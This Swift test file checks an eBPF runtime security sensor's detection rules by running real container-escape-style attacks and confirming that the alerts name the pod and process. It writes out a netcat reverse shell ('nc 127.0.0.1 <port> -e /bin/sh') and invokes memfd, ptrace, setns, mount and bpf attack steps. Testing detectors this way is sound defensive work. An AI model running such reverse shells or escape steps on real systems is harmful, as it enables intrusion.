import EventModel
import Foundation
import RuleEngine
import Synchronization
import TestSupport
import Testing

@testable import SensorApp

/// Signature rules R1012–R1019 against real behaviour: each attack runs for real inside a runc container (busybox
/// root, kubelet-style cgroup, `io.kubernetes.*` annotations) under the live eBPF sensor, and the alert must name the
/// rule, the pod, namespace, container and process. The same attacks on the host are attributed to `host`:
/// R1012 (memfd exec) and R1018 (reverse shell) alert there too, with no container; R1013–R1017 and R1019 require a
/// container (`in_container`), so on the host the sensor sees the event but the rule stays silent.
///
/// The attacks BusyBox cannot do (memfd exec, ptrace, /proc/<pid>/mem, setns, mount, bpf) come from
/// `Fixtures/intruder.c`, compiled statically at test time so the same binary runs in the busybox root and on the host.
@Suite(.serialized) struct SignatureRulesInContainersPartBTests {
    static let fixture = URL(fileURLWithPath: #filePath).deletingLastPathComponent()
        .appendingPathComponent("Fixtures/intruder.c").path

    /// Why the suite cannot run here, or nil.
    static var unavailableReason: String? {
        if getuid() != 0 { return "needs root to load BPF and run runc (uid \(getuid()))" }
        if let reason = RuncContainer.unavailableReason { return reason }
        if !FileManager.default.isExecutableFile(atPath: busybox) { return "\(busybox) (busybox-static) is missing" }
        return nil
    }

    static let busybox = "/bin/busybox"

    /// Compiles the intruder helper statically into `directory`; returns its path, or why it cannot be built (no
    /// compiler, no static libc).
    static func buildIntruder(in directory: String) async throws -> (path: String?, skipReason: String?) {
        try await offPool {
            let compiler = ["/usr/bin/cc", "/usr/bin/gcc", "/usr/local/bin/cc"]
                .first { FileManager.default.isExecutableFile(atPath: $0) }
            guard let compiler else {
                return (nil, "no C compiler for Fixtures/intruder.c (scripts/bootstrap installs gcc and libc6-dev)")
            }
            let output = "\(directory)/intruder"
            let cc = Process()
            cc.executableURL = URL(fileURLWithPath: "/usr/bin/timeout")
            cc.arguments = ["-s", "KILL", "120", compiler, "-static", "-O2", "-o", output, fixture]
            let errors = Pipe()
            cc.standardError = errors
            try cc.run()
            let message = String(decoding: errors.fileHandleForReading.readDataToEndOfFile(), as: UTF8.self)
            cc.waitUntilExit()
            guard cc.terminationStatus == 0 else {
                return (nil, "cc -static could not build Fixtures/intruder.c (libc6-dev's libc.a missing?): \(message)")
            }
            return (output, nil)
        }
    }

    /// Writes a stand-in `apk` (Alpine's package manager): a script, so the exec is of a file named `apk`.
    static func writeFakeApk(at path: String) throws {
        try "#!/bin/sh\necho \"fetch https://dl-cdn.alpinelinux.org/alpine/v3.20/main: $*\"\n"
            .write(toFile: path, atomically: true, encoding: .utf8)
        chmod(path, 0o755)
    }

    /// A host TCP listener on `port` (busybox nc) that sends one command to whoever connects and prints what comes
    /// back: the attacker's end of a reverse shell.
    final class ShellListener: @unchecked Sendable {
        let process = Process()
        let output = Pipe()

        init(port: UInt16) throws {
            process.executableURL = URL(fileURLWithPath: "/usr/bin/timeout")
            process.arguments = [
                "-s", "KILL", "60", "/bin/sh", "-c",
                "echo 'echo reverse-shell-ok; exit' | \(SignatureRulesInContainersPartBTests.busybox) nc -l -p \(port)",
            ]
            process.standardOutput = output
            process.standardError = FileHandle.nullDevice
            try process.run()
        }

        /// Waits (up to 10 s) until something listens on `port`, so the shell's single connect finds it.
        static func waitUntilListening(port: UInt16) async throws {
            let local = String(format: ":%04X ", port)
            for _ in 0..<100 {
                let listening = try await offPool {
                    ["/proc/net/tcp", "/proc/net/tcp6"].contains { table in
                        let text = (try? String(contentsOfFile: table, encoding: .utf8)) ?? ""
                        // Columns: sl local_address rem_address st ...; state 0A is LISTEN.
                        return text.split(separator: "\n").contains { line in
                            let columns = line.split(separator: " ")
                            return columns.count > 3 && "\(columns[1]) ".hasSuffix(local) && columns[3] == "0A"
                        }
                    }
                }
                if listening { return }
                try await Task.sleep(for: .milliseconds(100))
            }
        }

        /// What the shell at the other end sent back (after it exited and the connection closed).
        func received() async throws -> String {
            try await offPool {
                let data = self.output.fileHandleForReading.readDataToEndOfFile()
                self.process.waitUntilExit()
                return String(decoding: data, as: UTF8.self)
            }
        }
    }

    /// Runs `body` while the live sensor captures into a `Collected`, then stops the capture.
    static func capturing<T: Sendable>(
        resolver: ContainerResolver, _ body: @escaping @Sendable (Collected) async throws -> T
    ) async throws -> T {
        let capture = try await offPool {
            try LiveCapture(
                configuration: LiveCaptureConfiguration(dedupWindow: .zero), node: "test-node", resolver: resolver)
        }
        let collected = Collected()
        return try await withThrowingTaskGroup(of: T?.self) { group in
            group.addTask {
                await capture.run(batchSize: 64) { collected.append($0) }
                return nil
            }
            group.addTask { try await body(collected) }
            var result: T?
            while let next = try await group.next() {
                if let next {
                    result = next
                    group.cancelAll()
                }
            }
            guard let result else { throw CaptureEnded() }
            return result
        }
    }

    struct CaptureEnded: Error {}

    static let containerRules: Set<String> = ["R1012", "R1013", "R1014", "R1015", "R1016", "R1017", "R1018", "R1019"]

    @Test(.timeLimit(.minutes(3))) func attacksInsideARealContainerRaiseAlertsNamingThePod() async throws {
        if let reason = Self.unavailableReason {
            print("skipping SignatureRulesInContainersPartBTests: \(reason)")
            return
        }
        let scratch = try await offPool { try TemporaryDirectory(prefix: "patrol-partb") }
        defer { scratch.remove() }
        let built = try await Self.buildIntruder(in: scratch.path)
        guard let intruder = built.path else {
            print("skipping SignatureRulesInContainersPartBTests: \(built.skipReason ?? "")")
            return
        }
        let rules = try RuleSet.load(files: ContainerDetectionTests.shippedRules)
        let resolver = ContainerResolver()
        // CAP_SYS_ADMIN as a privileged pod would have it, so setns, mount and bpf() really succeed; host networking
        // so the reverse shell reaches the test's listener on loopback.
        let options = RuncContainer.Options(
            podName: "payments-5f7c", namespace: "fintech", containerName: "api", hostNetwork: true,
            extraCapabilities: ["CAP_SYS_ADMIN"])
        let port = Ports.freeTCPPort()

        let (alerts, runs, shellReply) = try await Self.capturing(resolver: resolver) { collected in
            try await RuncContainer.with(options) { container in
                // Events that arrive before the sensor has read the container's runtime state carry only its id
                // (docs/containers.md); wait for the pod name before attacking.
                for _ in 0..<50
                where resolver.container(forCgroup: container.cgroupID ?? 0, pid: container.initPID)?
                    .podName.isEmpty ?? true
                {
                    try await Task.sleep(for: .milliseconds(100))
                }
                try await offPool {
                    let manager = FileManager.default
                    try manager.copyItem(atPath: intruder, toPath: container.hostPath("/usr/bin/intruder"))
                    chmod(container.hostPath("/usr/bin/intruder"), 0o755)
                    try Self.writeFakeApk(at: container.hostPath("/sbin/apk"))
                    try manager.createDirectory(
                        atPath: container.hostPath("/tmp/p"), withIntermediateDirectories: true)
                }
                let listener = try ShellListener(port: port)
                try await ShellListener.waitUntilListening(port: port)
                var runs: [String: RuncContainer.ExecResult] = [:]
                runs["R1012"] = try await container.exec(
                    ["intruder", "memfd-exec", "/bin/busybox", "echo", "fileless-ran"])
                runs["R1013"] = try await container.exec(["intruder", "ptrace-attach"])
                runs["R1014"] = try await container.exec(["intruder", "mem-write"])
                // nsenter -t 1 style: join the namespace of the container's pid 1.
                runs["R1015"] = try await container.exec(["intruder", "setns", "/proc/1/ns/uts"])
                runs["R1016"] = try await container.exec(["intruder", "mount", "proc", "/tmp/p"])
                runs["R1017"] = try await container.exec(["intruder", "bpf"])
                runs["R1018"] = try await container.exec(["nc", "127.0.0.1", "\(port)", "-e", "/bin/sh"])
                runs["R1019"] = try await container.exec(["apk", "add", "curl"])
                let reply = try await listener.received()

                var found: [Alert] = []
                for _ in 0..<100 {
                    var evaluator = RuleEvaluator(ruleSet: rules)
                    found = collected.all.filter { $0.container?.containerID == container.id }
                        .flatMap { evaluator.evaluate($0) }
                    if Self.containerRules.isSubset(of: Set(found.map(\.ruleID))) { break }
                    try await Task.sleep(for: .milliseconds(100))
                }
                return (found, runs, reply)
            }
        }

        // Each attack really happened (so the alerts describe something true).
        for (rule, run) in runs.sorted(by: { $0.key < $1.key }) {
            #expect(run.status == 0, "\(rule) attack failed (\(run.status)): \(run.standardOutput)\(run.standardError)")
        }
        #expect(runs["R1012"]?.standardOutput.contains("fileless-ran") == true)
        #expect(shellReply.contains("reverse-shell-ok"), "the reverse shell did not answer: \(shellReply)")

        func alert(_ id: String) -> Alert? { alerts.first { $0.ruleID == id } }
        let seen = Set(alerts.map(\.ruleID)).sorted()
        for id in Self.containerRules.sorted() {
            let found = alert(id)
            #expect(found != nil, "no \(id) from the container; alerts: \(seen)")
            guard let found else { continue }
            #expect(found.container?.podName == "payments-5f7c", "\(id)")
            #expect(found.container?.namespace == "fintech", "\(id)")
            #expect(found.container?.containerName == "api", "\(id)")
            #expect(found.container?.podUID == options.podUID, "\(id)")
            #expect(found.container?.containerID == options.containerID, "\(id)")
        }
        // The process each alert names.
        // As /proc/<pid>/exe reads; the kernel names a descriptor exec /dev/fd/<n>, the sensor looks behind it.
        let memfdExe = alert("R1012")?.process.exe ?? ""
        #expect(memfdExe == "/memfd:patrol-payload (deleted)", "\(memfdExe)")
        // Recent kernels (this one is 6.18) name the process after the memfd; older ones after the fd number.
        let memfdComm = alert("R1012")?.process.comm ?? ""
        #expect(memfdComm.hasPrefix("memfd:patrol") || Int(memfdComm) != nil, "\(memfdComm)")
        for id in ["R1013", "R1014", "R1015", "R1016", "R1017"] {
            #expect(alert(id)?.process.exe == "/usr/bin/intruder", "\(id): \(alert(id)?.process.exe ?? "")")
            #expect(alert(id)?.process.comm == "intruder", "\(id): \(alert(id)?.process.comm ?? "")")
        }
        #expect(alert("R1013")?.message.contains("request 16") == true, "\(alert("R1013")?.message ?? "")")
        #expect(alert("R1014")?.message.contains("/mem") == true, "\(alert("R1014")?.message ?? "")")
        // The namespace joined, named as readlink(/proc/<pid>/ns/uts) shows it.
        #expect(alert("R1015")?.message.contains("joined namespace 'uts:[") == true, "\(alert("R1015")?.message ?? "")")
        #expect(alert("R1016")?.message.contains("type 'proc'") == true, "\(alert("R1016")?.message ?? "")")
        #expect(alert("R1018")?.process.exe == "/bin/sh", "\(alert("R1018")?.process.exe ?? "")")
        #expect(alert("R1018")?.process.comm == "sh", "\(alert("R1018")?.process.comm ?? "")")
        #expect(alert("R1019")?.process.exe == "/sbin/apk", "\(alert("R1019")?.process.exe ?? "")")
        #expect(alert("R1019")?.process.comm == "apk", "\(alert("R1019")?.process.comm ?? "")")
    }

    /// The same attacks on the host. R1012 and R1018 fire with no container (attributed to `host`); the others
    /// require a container: the sensor sees each event, attributed to the host, and the rule raises nothing.
    @Test(.timeLimit(.minutes(3))) func theSameAttacksOnTheHostAreAttributedToTheHost() async throws {
        if let reason = Self.unavailableReason {
            print("skipping SignatureRulesInContainersPartBTests: \(reason)")
            return
        }
        let scratch = try await offPool { try TemporaryDirectory(prefix: "patrol-partb-host") }
        defer { scratch.remove() }
        let built = try await Self.buildIntruder(in: scratch.path)
        guard let intruder = built.path else {
            print("skipping SignatureRulesInContainersPartBTests: \(built.skipReason ?? "")")
            return
        }
        let apk = scratch.file("apk")
        let mountPoint = scratch.file("p")
        try await offPool {
            try Self.writeFakeApk(at: apk)
            try FileManager.default.createDirectory(atPath: mountPoint, withIntermediateDirectories: true)
        }
        let rules = try RuleSet.load(files: ContainerDetectionTests.shippedRules)
        let port = Ports.freeTCPPort()

        struct Runs: Sendable {
            var pids: [String: Int32] = [:]
            var failures: [String] = []
            var shellReply = ""
            var events: [Event] = []
        }
        let runs = try await Self.capturing(resolver: ContainerResolver()) { collected in
            var runs = Runs()
            let attacks: [(String, String, [String])] = [
                ("R1012", intruder, ["memfd-exec", Self.busybox, "echo", "fileless-ran"]),
                ("R1013", intruder, ["ptrace-attach"]),
                ("R1014", intruder, ["mem-write"]),
                // pid 1 of this sandbox may be out of reach; joining one's own namespace is the same syscall.
                ("R1015", intruder, ["setns", "/proc/self/ns/uts"]),
                ("R1016", intruder, ["mount", "proc", mountPoint]),
                ("R1017", intruder, ["bpf"]),
                ("R1019", apk, ["add", "curl"]),
            ]
            for (rule, path, arguments) in attacks {
                let run = try await Host.run(path, arguments)
                runs.pids[rule] = run.pid
                if run.status != 0 { runs.failures.append("\(rule): \(run.status) \(run.output)") }
            }
            let listener = try ShellListener(port: port)
            try await ShellListener.waitUntilListening(port: port)
            let nc = try await Host.run(Self.busybox, ["nc", "127.0.0.1", "\(port)", "-e", "/bin/sh"])
            // busybox nc execs the shell in its own process, so the shell has nc's pid.
            runs.pids["R1018"] = nc.pid
            if nc.status != 0 { runs.failures.append("R1018: nc exited \(nc.status)") }
            runs.shellReply = try await listener.received()

            let pids = Set(runs.pids.values)
            for _ in 0..<100 {
                try await Task.sleep(for: .milliseconds(100))
                runs.events = collected.all.filter { pids.contains($0.process.pid) }
                let kinds = Set(runs.events.map(\.payload.kind))
                if kinds.isSuperset(of: [.exec, .ptrace, .open, .namespaceChange, .bpf]),
                    runs.events.contains(where: { if case .exec(let e) = $0.payload { e.stdioSocket } else { false } })
                {
                    try await Task.sleep(for: .milliseconds(300))
                    runs.events = collected.all.filter { pids.contains($0.process.pid) }
                    break
                }
            }
            return runs
        }
        #expect(runs.failures.isEmpty, "host attacks failed: \(runs.failures)")
        #expect(runs.shellReply.contains("reverse-shell-ok"), "the reverse shell did not answer: \(runs.shellReply)")

        // Every event of the attacks is the host's.
        #expect(!runs.events.isEmpty)
        #expect(runs.events.allSatisfy { $0.container == nil }, "host events with a container")
        var evaluator = RuleEvaluator(ruleSet: rules)
        let hostAlerts = runs.events.flatMap { evaluator.evaluate($0) }
        func events(of rule: String) -> [Event] { runs.events.filter { $0.process.pid == runs.pids[rule] } }
        func alerts(of rule: String) -> [Alert] {
            hostAlerts.filter { $0.ruleID == rule && $0.process.pid == runs.pids[rule] }
        }

        // Rules that cover the host: the alert arrives, with no container.
        let memfd = try #require(alerts(of: "R1012").first, "no R1012 on the host; alerts: \(hostAlerts.map(\.ruleID))")
        #expect(memfd.container == nil)
        #expect(memfd.process.exe.hasPrefix("/memfd:patrol-payload"), "\(memfd.process.exe)")
        let shell = try #require(alerts(of: "R1018").first, "no R1018 on the host; alerts: \(hostAlerts.map(\.ruleID))")
        #expect(shell.container == nil)
        #expect(shell.process.exe == "/bin/sh")

        // Container-only rules: the sensor saw the behaviour on the host, and the rule stayed silent.
        let seen: [(String, (Event) -> Bool)] = [
            ("R1013", { if case .ptrace(let p) = $0.payload { p.request == 16 } else { false } }),
            ("R1014", { if case .open(let o) = $0.payload { o.path.hasSuffix("/mem") } else { false } }),
            ("R1015", {
                if case .namespaceChange(let n) = $0.payload { n.syscall == "setns" && n.source.hasPrefix("uts:[") }
                else { false }
            }),
            ("R1016", {
                if case .namespaceChange(let n) = $0.payload { n.syscall == "mount" && n.fsType == "proc" }
                else { false }
            }),
            ("R1017", { if case .bpf = $0.payload { true } else { false } }),
            ("R1019", { if case .exec(let e) = $0.payload { e.path == apk } else { false } }),
        ]
        for (rule, matches) in seen {
            #expect(events(of: rule).contains(where: matches), "the sensor saw no \(rule) behaviour on the host")
            #expect(alerts(of: rule).isEmpty, "\(rule) requires a container but fired on the host")
        }
    }
}
